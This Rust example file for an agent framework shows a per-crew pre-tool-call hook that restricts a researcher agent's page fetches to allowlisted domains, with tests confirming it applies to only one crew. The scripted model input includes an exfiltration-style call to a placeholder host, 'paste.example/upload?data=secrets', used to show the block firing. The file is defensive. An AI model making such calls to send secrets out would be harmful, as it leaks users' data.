//! Crew-scoped hooks: a hook method of a `#[crew_base]` type belongs to the
//! crews that instance builds, and to nothing else.
//!
//! `cargo run --example crew_scoped`
//!
//! `ResearchCrew` only lets its researcher fetch pages from the domains on
//! its own allowlist, and counts what it refuses: the hook method reads the
//! instance's state through `&self`. A second, plain crew in the same
//! process makes exactly the same calls and is not affected: the hook is
//! never global.

use std::error::Error;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crew_runtime::prelude::*;
use crew_runtime::schemars::JsonSchema;
use crew_runtime::serde::Deserialize;
use crew_runtime::transcript::describe_hook;
use crew_runtime::{Process, get_hooks, transcript::Transcript};

#[derive(Deserialize, JsonSchema)]
#[serde(crate = "crew_runtime::serde")]
#[schemars(crate = "crew_runtime::schemars")]
struct FetchArgs {
    /// The page's URL.
    url: String,
}

fn fetch_page() -> Tool {
    Tool::typed("fetch_page", "Fetches a web page", |args: FetchArgs| {
        Ok::<_, String>(format!("page at {}", args.url))
    })
    .build()
}

/// The host of an `http(s)://host[:port]/…` URL.
fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    authority.split(':').next().unwrap_or_default()
}

/// A crew definition. Hook methods see this instance, so it is `Clone`
/// (the crew keeps a copy for its hooks) and shares its counter through an
/// `Arc`, so the count is the same in every copy.
#[derive(Clone)]
struct ResearchCrew {
    allowed_domains: Arc<[String]>,
    refused: Arc<AtomicUsize>,
    model: Arc<dyn Llm>,
}

#[crew_base]
impl ResearchCrew {
    #[agent]
    fn researcher(&self) -> Agent {
        Agent::builder("Researcher")
            .goal("Read the documentation")
            .tool(fetch_page())
            .llm(self.model.clone())
            .build()
    }

    #[task]
    fn research(&self) -> Task {
        Task::builder("Research {topic}")
            .agent(&self.researcher())
            .build()
    }

    /// Only for the crews this instance builds: pages from the allowlist
    /// (a domain or its subdomains).
    #[on(PRE_TOOL_CALL, tools = ["fetch_page"])]
    fn validate_tool_inputs(&self, ctx: &mut ToolCallHookContext) -> Result<(), HookAborted> {
        let url = ctx
            .tool_input
            .get("url")
            .and_then(Value::as_str)
            .unwrap_or_default();
        let host = host_of(url);
        let allowed = self.allowed_domains.iter().any(|domain| {
            host == domain
                || host
                    .strip_suffix(domain.as_str())
                    .is_some_and(|sub| sub.ends_with('.'))
        });
        if allowed {
            return Ok(());
        }
        self.refused.fetch_add(1, Ordering::SeqCst);
        Err(HookAborted::new(
            format!("{host} is not on this crew's allowlist"),
            "domain-allowlist",
        ))
    }

    /// Builds the crew; the hook method above is attached to it on the way
    /// out.
    #[crew]
    fn crew(&self) -> Result<Crew, BuildError> {
        Crew::builder()
            .name("research")
            .agents(self.agents())
            .tasks(self.tasks())
            .process(Process::Sequential)
            .build()
    }
}

/// The same script for both crews: one page on the allowlist, one not.
fn same_calls() -> Arc<ScriptedLlm> {
    Arc::new(
        ScriptedLlm::new()
            .call("fetch_page", json!({"url": "https://docs.rs/serde"}))
            .call(
                "fetch_page",
                json!({"url": "https://paste.example/upload?data=secrets"}),
            )
            .answer("serde derives (de)serialization."),
    )
}

fn run() -> Result<Vec<String>, Box<dyn Error>> {
    let transcript = Transcript::new();

    let definition = ResearchCrew {
        allowed_domains: Arc::from(["docs.rs".to_owned(), "rust-lang.org".to_owned()]),
        refused: Arc::default(),
        model: transcript.model("Researcher", same_calls()),
    };
    let research = definition.crew()?;
    transcript.attach(&research);

    // A crew built by hand, with the same agent role, tool and calls.
    let researcher = Agent::builder("Researcher")
        .tool(fetch_page())
        .llm(transcript.model("Researcher", same_calls()))
        .build();
    let plain = Crew::builder()
        .name("plain")
        .agent(researcher.clone())
        .task(Task::builder("Research {topic}").agent(&researcher).build())
        .build()?;
    transcript.attach(&plain);

    let lists = [
        ("global".to_owned(), get_hooks(PRE_TOOL_CALL)),
        (
            format!("crew `{}`", research.name()),
            research.hooks().get_hooks(PRE_TOOL_CALL),
        ),
        (
            format!("crew `{}`", plain.name()),
            plain.hooks().get_hooks(PRE_TOOL_CALL),
        ),
    ];
    for (whose, hooks) in lists {
        if hooks.is_empty() {
            transcript.line(format!("{whose} PRE_TOOL_CALL hooks: none"));
        } else {
            transcript.line(format!("{whose} PRE_TOOL_CALL hooks:"));
        }
        for hook in &hooks {
            transcript.line(format!("  {}", describe_hook(hook)));
        }
    }

    for crew in [&research, &plain] {
        transcript.line("");
        transcript.line(format!("== crew `{}`", crew.name()));
        crew.kickoff_blocking([("topic", "serde")])?;
    }

    transcript.line("");
    transcript.line(format!(
        "ResearchCrew instance refused {} call(s)",
        definition.refused.load(Ordering::SeqCst)
    ));
    Ok(transcript.lines())
}

fn main() -> ExitCode {
    match run() {
        Ok(lines) => {
            // Lines hold text the model and the tools chose: the console
            // escapes control characters.
            for line in lines {
                crew_runtime::console::print_line(&line);
            }
            ExitCode::SUCCESS
        }
        Err(error) => {
            eprintln!(
                "error: {}",
                crew_runtime::console::escape_control(&error.to_string())
            );
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_read_from_urls() {
        assert_eq!(host_of("https://docs.rs/serde"), "docs.rs");
        assert_eq!(
            host_of("http://blog.rust-lang.org:8080/x?y"),
            "blog.rust-lang.org"
        );
        assert_eq!(host_of("docs.rs"), "docs.rs");
    }

    #[test]
    fn only_the_crew_base_crew_is_restricted() {
        let lines = run().expect("the example runs");
        let blocked = "    PRE_TOOL_CALL  blocked the call: paste.example is not on this crew's allowlist [source: domain-allowlist] (1 hook ran)";
        let plain_ran =
            "    tool fetch_page runs with {\"url\":\"https://paste.example/upload?data=secrets\"}";
        assert_has_lines(
            &lines,
            &[
                "global PRE_TOOL_CALL hooks: none",
                "crew `research` PRE_TOOL_CALL hooks:",
                "  ResearchCrew::validate_tool_inputs #[on] tools=[\"fetch_page\"] (crew research)",
                "crew `plain` PRE_TOOL_CALL hooks: none",
                blocked,
                plain_ran,
                "ResearchCrew instance refused 1 call(s)",
            ],
        );
        // The block comes in the first crew's part, the plain run in the second's.
        let position = |wanted: &str| lines.iter().position(|l| l == wanted);
        let plain_start = position("== crew `plain`").expect("plain crew heading");
        assert!(position(blocked).is_some_and(|at| at < plain_start));
        assert!(position(plain_ran).is_some_and(|at| at > plain_start));
        let blocks = lines
            .iter()
            .filter(|l| l.contains("blocked the call"))
            .count();
        assert_eq!(blocks, 1, "{lines:#?}");
    }

    /// Panics unless every `expected` line is among `lines`, showing them
    /// all.
    #[track_caller]
    fn assert_has_lines(lines: &[String], expected: &[&str]) {
        for wanted in expected {
            assert!(
                lines.iter().any(|line| line == wanted),
                "missing {wanted:?} in {lines:#?}"
            );
        }
    }
}
